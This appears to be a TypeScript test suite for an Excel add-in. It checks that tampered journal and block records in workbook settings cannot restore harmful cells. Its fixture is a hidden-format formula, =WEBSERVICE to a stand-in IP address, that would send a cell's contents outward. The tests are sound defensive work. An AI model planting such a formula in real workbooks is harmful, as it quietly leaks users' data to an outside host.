import { checkedWorkbook, excelExecutor } from "../../../src/workbook/excel";
import { cellDigest } from "../../../src/workbook/plan";
import { smallPlan } from "../../support/small-plan";
import { openWorkbook } from "./open-workbook";

const outward = '=WEBSERVICE("http://192.0.2.1/?q="&F6)';

/** A workbook with one block at B2 and what its settings hold of it. */
async function withBlock() {
  const open = openWorkbook();
  open.type(0, 0, [["secret"]]);
  await open.executor.apply(smallPlan("x", { sheet: "Sheet1", cell: "B2" }), { overwrite: false });
  const { settings } = open.host.workbook;
  const record = JSON.parse(settings.get("timbang.block.x") as string) as Record<string, unknown>;
  return { ...open, settings, record };
}

type Open = Awaited<ReturnType<typeof withBlock>>;

function plantGiveBack({ settings, record, host }: Open): void {
  const now = host.workbook.sheets[0]!.valueAt(1, 1) as string;
  const cell = { row: 0, column: 0, before: { content: outward, numberFormat: ";;;" } };
  settings.set(
    "timbang.journal.x",
    JSON.stringify({ kind: "give-back", record, cells: [{ ...cell, after: cellDigest(now) }] }),
  );
}

describe("a workbook whose settings were made to harm", () => {
  test("is not changed when the pane opens", async () => {
    const open = await withBlock();
    plantGiveBack(open);
    const before = open.snapshot();
    const found = await excelExecutor().leftovers();
    expect(found).toMatchObject({ ok: true, value: [{ id: "x", writes: [{ address: "B2" }] }] });
    expect(open.snapshot()).toEqual(before);
  });

  test("gets no formula that reaches outside, also after the reader's yes: its words come as text", async () => {
    const open = await withBlock();
    plantGiveBack(open);
    const executor = excelExecutor();
    const found = await executor.leftovers();
    await executor.clearLeftovers(found.ok ? found.value : [], () => undefined);
    const sheet = open.host.workbook.sheets[0]!;
    expect(sheet.cellAt(1, 1).formula).toBeUndefined();
    expect(sheet.valueAt(1, 1)).toBe(outward);
  });

  test("gets nothing else than what was shown", async () => {
    const open = await withBlock();
    plantGiveBack(open);
    const executor = excelExecutor();
    const found = await executor.leftovers();
    const entry = open.settings.get("timbang.journal.x") as string;
    open.settings.set("timbang.journal.x", entry.replace("WEBSERVICE", "SUM"));
    const before = open.snapshot();
    const cleared = await executor.clearLeftovers(found.ok ? found.value : [], () => undefined);
    expect(cleared).toMatchObject({ value: [{ outcome: "changed" }] });
    expect(open.snapshot()).toEqual(before);
  });

  test("says how many old formulas of a block would come back as text", async () => {
    const open = await withBlock();
    const looks = (open.record.kept as { looks: unknown } | null)?.looks ?? {};
    const kept = { rows: 1, columns: 1, contents: [[outward]], numberFormats: "General", looks };
    open.settings.set("timbang.block.x", JSON.stringify({ ...open.record, kept }));
    const executor = excelExecutor();
    expect(await executor.blocks()).toMatchObject({ value: [{ oldFormulasAsText: 1 }] });
  });

  test("gives an old formula that reaches outside back as a text, and as a formula where this pane kept it", async () => {
    for (const isSamePane of [true, false]) {
      const { executor, host, type } = openWorkbook();
      type(1, 1, [[outward]]);
      const plan = smallPlan("x", { sheet: "Sheet1", cell: "B2" });
      await executor.apply(plan, { overwrite: true });
      await (isSamePane ? executor : excelExecutor()).remove("x");
      const cell = host.workbook.sheets[0]!.cellAt(1, 1);
      expect([cell.formula, cell.value === outward]).toEqual(
        isSamePane ? [outward, false] : [undefined, true],
      );
    }
  });

  test.each([
    "{",
    "null",
    "5",
    '{"a":1}',
    '[{"name":5}]',
    '[{"name":"Penting","fill":"","text":""}]',
  ])("marks that read %s are passed over and replaced, and take no name", async (value) => {
    const { host } = openWorkbook();
    const { workbook } = host;
    workbook.settings.set("timbang.marks", value);
    const checked = checkedWorkbook();
    const mark = { sheet: "Sheet1", address: "A1", text: "Timbang: x" };
    expect(await checked.mark([mark])).toEqual({ ok: true, value: null });
    expect(await checked.unmark()).toEqual({ ok: true, value: 1 });
    expect(workbook.settings.has("timbang.marks")).toBe(false);
  });

  test.each([
    { charts: ["Chart 1"] },
    { notes: [{ row: 500, column: 0 }] },
    { parts: [{ row: 0, column: 0, rows: 1e6, columns: 1 }] },
    { widened: [{ column: 99, before: null, after: 1 }] },
  ])("a record that speaks of what is not its block's, %j, is passed over", async (changes) => {
    const { settings, record, executor } = await withBlock();
    settings.set("timbang.block.x", JSON.stringify({ ...record, ...changes }));
    expect(await executor.blocks()).toEqual({ ok: true, value: [] });
  });
});
